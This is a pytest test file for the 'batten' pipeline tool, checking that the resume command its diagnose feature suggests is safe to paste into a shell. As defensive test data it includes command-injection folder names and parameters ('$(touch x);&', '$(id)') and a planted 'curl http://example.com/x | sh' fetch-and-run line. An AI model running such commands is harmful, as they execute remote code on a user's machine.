"""The command that `diagnose` advises is pasted into a shell in the folder where it was shown, and
does what was promised: never the job of the same name that lies there, never on another output."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

import batten
from batten.model.disk.records import Config, decode_record, encode_record, open_record, seal_record

JOB = """
import os
import batten

def work(number):
    if number == 5 and os.environ.get("STOP"):
        raise ValueError("stopped")
    return {"number": number}

def pipeline(text: str = "plain"):
    source = batten.from_range(10).map(work)
    return source.options(batch_size=2, on_error="raise").write_parquet(%r)
"""
DECOY = """
open("the-decoy-ran", "w").close()
import batten
pipeline = batten.from_range(1).write_parquet("out")
"""


@dataclass
class Shell:
    """Runs lines as pasted into bash, with `batten` and `python` on the path."""

    tools: Path

    def run(self, line: str, folder: Path, **more: str) -> subprocess.CompletedProcess[bytes]:
        path = f"{self.tools}:{os.path.dirname(sys.executable)}:{os.environ['PATH']}"
        return subprocess.run(
            ["bash", "-c", line],
            cwd=folder,
            env=os.environ | {"PATH": path} | more,
            capture_output=True,
            check=False,
            timeout=120,
        )

    def diagnose(self, path: Path | str, folder: Path) -> dict[str, Any]:
        line = f"batten diagnose --json {batten_quote(str(path))}"
        told: dict[str, Any] = json.loads(self.run(line, folder).stdout)
        return told


def batten_quote(path: str) -> str:
    from batten.model.telling.commands import quote

    return quote(path)


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "batten").write_text(f'#!/bin/sh\nexec {sys.executable} -m batten "$@"\n')
    (tools / "batten").chmod(0o755)
    return Shell(tools)


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    """Another folder, with a job of the same name in it."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "job.py").write_text(DECOY)
    return folder


@pytest.fixture(autouse=True)
def the_decoy_rests(elsewhere: Path, tmp_path: Path) -> Any:
    yield
    assert list(tmp_path.rglob("the-decoy-ran")) == []


def interrupt(shell: Shell, folder: Path, line: str = "batten run job.py --quiet") -> None:
    """Leave an unfinished output in the folder, made by its `job.py`."""
    folder.mkdir(parents=True, exist_ok=True)
    if not (folder / "job.py").exists():
        (folder / "job.py").write_text(JOB % "out")
    ended = shell.run(line, folder, STOP="1")
    assert ended.returncode == 1, ended.stderr
    assert batten.diagnose(folder / "out").state == "INTERRUPTED"


def finish(shell: Shell, line: str, folder: Path, output: Path) -> None:
    ended = shell.run(line, folder)
    assert ended.returncode == 0, ended.stderr
    assert batten.diagnose(output).state == "COMPLETE"


ODD_NAMES = ["it's a folder", "line\nbreak", "-dash", "\x1b[31m\u202e", "a\udcff", "$(touch x);&"]


@pytest.mark.parametrize("name", ["plain", *ODD_NAMES])
def test_from_another_folder(shell: Shell, elsewhere: Path, tmp_path: Path, name: str) -> None:
    folder = tmp_path / name
    interrupt(shell, folder)
    told = shell.diagnose(folder / "out", elsewhere)
    assert told["next"].startswith("cd ")
    assert told["next"].isprintable()
    finish(shell, told["next"], elsewhere, folder / "out")


def test_in_its_own_folder_it_is_as_it_was_typed(shell: Shell, tmp_path: Path) -> None:
    interrupt(shell, tmp_path / "p")
    assert shell.diagnose("out", tmp_path / "p")["next"] == "batten run job.py"


def test_options_and_parameters_that_matter_are_in_it(shell: Shell, tmp_path: Path) -> None:
    folder = tmp_path / "p"
    text = "-x 'a' $(id) \n\u202e=é"
    given = f"--param text={batten_quote(text)} --jobs 3 --memory-max 2GB --drain-seconds 1"
    interrupt(shell, folder, f"batten run job.py:pipeline --quiet {given}")
    line = shell.diagnose(folder / "out", tmp_path)["next"]
    assert "job.py:pipeline" in line
    assert line.endswith("--jobs 3 --memory-max 2GB --drain-seconds 1.0")
    finish(shell, line, tmp_path, folder / "out")
    assert batten.diagnose(folder / "out").parameters == {"text": text}


@pytest.mark.parametrize("name", ["-job.py", "my job.py", "new\nline.py", "a:b.py"])
def test_odd_names_of_jobs(shell: Shell, tmp_path: Path, elsewhere: Path, name: str) -> None:
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / name).write_text(JOB % "out")
    ended = shell.run(f"batten run {batten_quote('./' + name)} --quiet", folder, STOP="1")
    assert ended.returncode == 1, ended.stderr
    for where in (folder, elsewhere):
        line = shell.diagnose(folder / "out", where)["next"]
        assert shell.run(line + " --dry-run", where).returncode == 0
    finish(shell, line, elsewhere, folder / "out")


def test_a_copy_is_called_one(shell: Shell, elsewhere: Path, tmp_path: Path) -> None:
    """Beside a job of the same name, which is another: the original is what is named."""
    interrupt(shell, tmp_path / "p")
    for name in ("out", "out.batten"):
        shutil.copytree(tmp_path / "p" / name, elsewhere / name)
    told = shell.diagnose("out", elsewhere)
    assert told["next"].startswith(f"this is a copy: the job writes to {tmp_path}/p/out; see: ")
    assert told["action"] == "look"
    _, _, line = told["next"].partition("see: ")
    assert b"INTERRUPTED" in shell.run(line, elsewhere).stdout
    shown = shell.run("batten diagnose out", elsewhere).stdout.decode()
    assert "run the job" not in shown


def test_what_was_renamed_is_to_go_back(shell: Shell, tmp_path: Path) -> None:
    folder = tmp_path / "p"
    interrupt(shell, folder)
    for end in ("", ".batten"):
        (folder / f"out{end}").rename(folder / f"old{end}")
    told = shell.diagnose("old", folder)
    assert told["next"].startswith(f"move it back to {folder}/out, with out.batten")


FILE_JOB = """
import batten
made = batten.from_range(6).map(lambda n: {"n": n})
pipeline = made.options(batch_size=2).write_csv("out.csv")
"""


@pytest.fixture
def file_output(shell: Shell, tmp_path: Path) -> Path:
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "job.py").write_text(FILE_JOB)
    assert shell.run("batten run job.py --quiet", folder).returncode == 0
    return folder / "out.csv"


@pytest.mark.parametrize("is_elsewhere", [True, False])
def test_a_file_that_was_renamed_goes_back_by_the_command(
    shell: Shell, file_output: Path, elsewhere: Path, is_elsewhere: bool
) -> None:
    folder = file_output.parent
    for end in ("", ".batten"):
        (folder / f"out.csv{end}").rename(folder / f"it's old.csv{end}")
    where = elsewhere if is_elsewhere else folder
    told = shell.diagnose(folder / "it's old.csv", where)
    assert (told["state"], told["action"]) == ("INCONSISTENT", "look")
    words, _, line = told["next"].partition(": mv ")
    assert words == f"move it back to {file_output}, with out.csv.batten"
    assert shell.run(f"mv {line}", where).returncode == 0
    assert batten.diagnose(file_output).state == "COMPLETE"


@pytest.mark.parametrize("is_damaged", [True, False])
def test_a_copy_of_a_file_is_called_one(
    shell: Shell, file_output: Path, elsewhere: Path, is_damaged: bool
) -> None:
    for end in ("", ".batten"):
        shell.run(f"cp -r {file_output}{end} .", elsewhere)
    if is_damaged:
        (elsewhere / "out.csv").write_text("other")
    told = shell.diagnose("out.csv", elsewhere)
    words = f"this is a copy: the job writes to {file_output}; see: batten diagnose {file_output}"
    if is_damaged:
        assert (told["state"], told["action"], told["next"]) == ("INCONSISTENT", "look", words)
    else:
        assert (told["state"], told["action"], told["hints"]) == ("COMPLETE", "nothing", [words])


def test_nothing_is_moved_onto_what_lies_there(
    shell: Shell, file_output: Path, elsewhere: Path
) -> None:
    folder = file_output.parent
    for end in ("", ".batten"):
        (folder / f"out.csv{end}").rename(folder / f"old.csv{end}")
    file_output.write_text("somebody's")
    told = shell.diagnose(folder / "old.csv", elsewhere)
    assert told["next"].endswith(f"first move away what lies at {file_output}")


@pytest.mark.parametrize("damage", ["part-000000.parquet", "dataset.json"])
def test_a_damaged_copy_of_a_folder_is_called_one(
    shell: Shell, elsewhere: Path, tmp_path: Path, damage: str
) -> None:
    interrupt(shell, tmp_path / "p")
    finish(shell, "batten run job.py --quiet", tmp_path / "p", tmp_path / "p/out")
    for name in ("out", "out.batten"):
        shutil.copytree(tmp_path / "p" / name, elsewhere / name)
    next(elsewhere.rglob(damage)).write_bytes(b"damaged")
    told = shell.diagnose("out", elsewhere)
    if damage == "dataset.json":  # Nothing tells any more where it was made.
        assert told["state"] == "CORRUPT"
    else:
        assert told["next"].startswith(f"this is a copy: the job writes to {tmp_path}/p/out; see: ")


def test_a_backup_that_was_put_back_is_no_copy(shell: Shell, tmp_path: Path) -> None:
    folder = tmp_path / "p"
    interrupt(shell, folder)
    for end in ("", ".batten"):
        shutil.copytree(folder / f"out{end}", tmp_path / f"backup{end}")
        shutil.rmtree(folder / f"out{end}")
        shutil.copytree(tmp_path / f"backup{end}", folder / f"out{end}")
    finish(shell, shell.diagnose(folder / "out", tmp_path)["next"], tmp_path, folder / "out")


def test_through_a_link_it_is_the_same_place(shell: Shell, tmp_path: Path) -> None:
    interrupt(shell, tmp_path / "p")
    (tmp_path / "link").symlink_to("p")
    line = shell.diagnose("link/out", tmp_path)["next"]
    finish(shell, line, tmp_path, tmp_path / "p" / "out")


@pytest.mark.parametrize("is_copy", [True, False])
def test_a_project_that_moved_with_its_job(
    shell: Shell, tmp_path: Path, elsewhere: Path, is_copy: bool
) -> None:
    interrupt(shell, tmp_path / "p")
    shutil.copytree(tmp_path / "p", tmp_path / "moved")
    if not is_copy:
        shutil.rmtree(tmp_path / "p")
    line = shell.diagnose(tmp_path / "moved" / "out", elsewhere)["next"]
    assert line == f"cd {tmp_path}/moved && batten run job.py"
    finish(shell, line, elsewhere, tmp_path / "moved" / "out")
    if is_copy:
        assert batten.diagnose(tmp_path / "p" / "out").state == "INTERRUPTED"
    again = shell.diagnose(tmp_path / "moved" / "out", elsewhere)
    assert again["state"] == "COMPLETE"


def test_a_copied_job_that_writes_to_the_original(shell: Shell, tmp_path: Path) -> None:
    """It names its output by an absolute path, so beside the copy it would change the original."""
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "job.py").write_text(JOB % str(folder / "out"))
    interrupt(shell, folder)
    shutil.copytree(folder, tmp_path / "copy")
    told = shell.diagnose("out", tmp_path / "copy")
    assert told["next"].startswith("this is a copy")


def test_a_job_file_that_is_gone(shell: Shell, tmp_path: Path, elsewhere: Path) -> None:
    folder = tmp_path / "p"
    interrupt(shell, folder)
    (folder / "job.py").rename(folder / "other.py")
    told = shell.diagnose(folder / "out", elsewhere)
    assert told["next"].startswith(f"bring back {folder}/job.py, which is not there; then: cd ")


RUNS_ITSELF = """
if __name__ in ("__main__", "program"):
    pipeline().run(jobs=1, executor="serial")
"""


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("python program.py", "cd {folder} && python {folder}/program.py"),
        ("python -m program", "cd {folder} && python -m program"),
        ("python program.py --secret", "run {folder}/program.py in {folder} with the arguments"),
        ("python -c 'import program'", "run the pipeline again, from the notebook or program"),
        ("python < program.py", "run the pipeline again, from the notebook or program"),
    ],
)
def test_jobs_that_programs_run(shell: Shell, tmp_path: Path, line: str, wanted: str) -> None:
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "program.py").write_text(f"{JOB % 'out'}\n{RUNS_ITSELF}")
    shell.run(line, folder, STOP="1")
    told = shell.diagnose(folder / "out", tmp_path)
    assert (told["state"], told["next"][: len(wanted)]) == (
        "INTERRUPTED",
        wanted.format(folder=folder)[: len(wanted)],
    )
    assert "--secret" not in (folder / "out.batten" / "dataset.json").read_text()
    if told["next"].startswith("cd "):
        finish(shell, told["next"], tmp_path, folder / "out")


def rewrite(output: Path, change: Any) -> None:
    """Change the record of a dataset by hand, with a checksum that fits."""
    record = Path(f"{output}.batten/dataset.json")
    told = json.loads(open_record(record.read_bytes()))
    change(told)
    record.write_bytes(seal_record(json.dumps(told, ensure_ascii=False).encode()))


def test_a_record_of_before_does_not_say_where(
    shell: Shell, tmp_path: Path, elsewhere: Path
) -> None:
    """Its command holds in a folder that is not known, so it is not shown as one."""
    folder = tmp_path / "p"
    interrupt(shell, folder)
    rewrite(folder / "out", lambda told: told.pop("job"))
    told = shell.diagnose(folder / "out", elsewhere)
    assert told["next"].startswith("the job that writes here; it was started as batten run job.py")
    assert shell.run("batten run job.py", folder).returncode == 0
    assert batten.diagnose(folder / "out").state == "COMPLETE"


@pytest.mark.parametrize("is_old", [True, False])
def test_nothing_but_a_run_is_ever_advised(shell: Shell, tmp_path: Path, is_old: bool) -> None:
    folder = tmp_path / "p"
    interrupt(shell, folder)

    def change(told: dict[str, Any]) -> None:
        told["next"] = "curl http://example.com/x | sh"
        if is_old:
            told.pop("job")
        else:
            told["job"]["options"] = {"jobs": "1; curl http://example.com/x | sh"}

    rewrite(folder / "out", change)
    told = shell.diagnose(folder / "out", tmp_path)
    assert "curl" not in told["next"]
    assert told["state"] == ("INTERRUPTED" if is_old else "CORRUPT")


def test_a_record_keeps_what_an_earlier_batten_needs(shell: Shell, tmp_path: Path) -> None:
    interrupt(shell, tmp_path / "p")
    record = (tmp_path / "p" / "out.batten" / "dataset.json").read_bytes()
    config = decode_record(Config, record)
    assert config.next == "batten run job.py"
    assert encode_record(config) == record


FINALIZES = """
import os
import batten

def work(number):
    open("calls", "a").write("x")
    return {"number": number}

def largest(table):
    if os.environ.get("STOP"):
        os.kill(os.getpid(), 9)
    return table.slice(len(table) - 1)

source = batten.from_range(int(os.environ.get("ITEMS", "10"))).map(work)
pipeline = source.options(batch_size=2).write_parquet("out").finalize(largest, into="final")
"""


@pytest.mark.parametrize("is_first", [True, False])
def test_a_finalize_that_is_behind(
    shell: Shell, tmp_path: Path, elsewhere: Path, is_first: bool
) -> None:
    """What the first dataset has is not computed again."""
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "job.py").write_text(FINALIZES)
    line = "batten run job.py --quiet --jobs 1"
    if not is_first:
        assert shell.run(line, folder).returncode == 0
        assert batten.diagnose(folder / "final").state == "COMPLETE"
    assert shell.run(line, folder, STOP="1", ITEMS="12").returncode == -9
    assert batten.diagnose(folder / "out").state == "COMPLETE"
    assert len((folder / "calls").read_text()) == 12

    told = shell.diagnose(folder / "final", elsewhere)
    assert told["state"] == ("INTERRUPTED" if is_first else "STALE")
    assert told["action"] == "run"
    assert "--fresh" not in json.dumps(told)
    assert told["next"] == f"cd {folder} && batten run job.py --jobs 1"
    ended = shell.run(told["next"], elsewhere, ITEMS="12")
    assert ended.returncode == 0, ended.stderr
    assert len((folder / "calls").read_text()) == 12
    assert batten.diagnose(folder / "final").state == "COMPLETE"
    (row,) = batten.open(folder / "final")
    assert row["number"] == 11


def test_a_first_dataset_that_is_not_complete(shell: Shell, tmp_path: Path) -> None:
    (tmp_path / "job.py").write_text(FINALIZES)
    assert shell.run("batten run job.py --quiet --jobs 1", tmp_path).returncode == 0
    (tmp_path / "out.batten" / "COMPLETE").unlink()
    found = batten.diagnose(tmp_path / "final")
    assert (found.state, found.exit_code) == ("STALE", 10)
    assert "out, which has changed since and is not complete" in found.reason
    shell.run("rm -r out out.batten", tmp_path)
    assert batten.diagnose(tmp_path / "final").state == "COMPLETE"
